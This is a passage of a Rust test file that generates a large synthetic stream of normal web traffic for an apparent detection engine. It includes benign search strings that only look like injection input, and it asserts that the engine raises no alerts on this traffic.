    let searches = [
        "O%27Brien",
        "select+committee",
        "union+station",
        "%22don%27t+panic%22",
        "rock+%26+roll",
        "drop+shipping",
        "a%3Cb",
        "where+is+my+order%3F",
        "1%3D1+tickets",
        "sleep+mask",
    ];
    for v in 0..600u32 {
        let ipaddr = match v % 3 {
            0 => format!("198.51.100.{}", v / 3 % 250 + 1),
            1 => format!("203.0.113.{}", v / 3 % 250 + 1),
            _ => format!("2001:db8:{:x}::{:x}", v / 3 + 1, v + 1),
        };
        let start = i64::from(v) * 11_000;
        let mut t = start;
        for page in 0..12u32 {
            let path = match page % 4 {
                0 => format!("/products/{}", (v * 7 + page) % 300),
                1 => format!(
                    "/search?q={}&page={}",
                    searches[((v + page) % 10) as usize],
                    page / 4 + 1
                ),
                2 => format!("/category/{}?sort=price&order=asc", (v + page) % 20),
                _ => "/".to_string(),
            };
            ev.push(req(t, &ipaddr, "GET", &path, 200));
            for a in 0..25u32 {
                let asset = match a % 5 {
                    0 => format!("/static/css/site.{a}.css"),
                    1 => format!("/static/js/chunk.{a}.js"),
                    2 => format!("/img/p/{}.webp", (v + a) % 500),
                    3 => format!("/fonts/inter-{a}.woff2"),
                    _ => format!("/img/icons/{a}.svg"),
                };
                ev.push(req(
                    t + 5 + i64::from(a) * 4,
                    &ipaddr,
                    "GET",
                    &asset,
                    if a == 24 { 404 } else { 200 },
                ));
            }
            ev.push(req(
                t + 150,
                &ipaddr,
                "GET",
                &format!("/api/v1/items?page={page}&limit=20"),
                200,
            ));
            ev.push(req(t + 160, &ipaddr, "POST", "/api/v1/events", 204));
            t += 3_000 + i64::from((v * 13 + page * 7) % 9_000);
        }
        ev.push(req(t, &ipaddr, "GET", "/favicon.ico", 404));
        ev.push(req(t + 10, &ipaddr, "GET", "/apple-touch-icon.png", 404));
        ev.push(req(t + 20, &ipaddr, "POST", "/cart/add", 200));
        if v % 10 == 0 {
            ev.push(req(t + 500, &ipaddr, "POST", "/login", 401));
            ev.push(req(t + 9_000, &ipaddr, "POST", "/login", 302));
        }
    }
    let two_hours = 2 * 3600;
    for s in 0..two_hours {
        ev.push(
            req(s * 1000, "192.0.2.250", "GET", "/healthz", 200)
                .with("user_agent", "Amazon CloudFront health check"),
        );
    }
    for s in 0..two_hours / 30 {
        ev.push(
            req(s * 30_000 + 7, "192.0.2.251", "HEAD", "/", 200)
                .with("user_agent", "UptimeRobot/2.0"),
        );
    }
    for s in 0..two_hours / 2 {
        ev.push(
            req(
                s * 2000 + 3,
                "66.249.66.1",
                "GET",
                &format!("/products/{}", s % 900),
                200,
            )
            .with(
                "user_agent",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
        );
    }
    ev.sort_by_key(|o| o.ts);
    ev
}

#[test]
fn a_busy_sites_normal_traffic_raises_nothing() {
    let ev = busy_site();
    assert!(ev.len() > 200_000, "{}", ev.len());
    let mut e = engine();
    let out = run(&mut e, &ev);
    let names: Vec<&str> = out.iter().map(|a| a.scenario.as_str()).collect();
    assert!(names.is_empty(), "alerts on normal traffic: {names:?}");
    assert!(e.stats().matched > 0, "the stream was looked at");
}
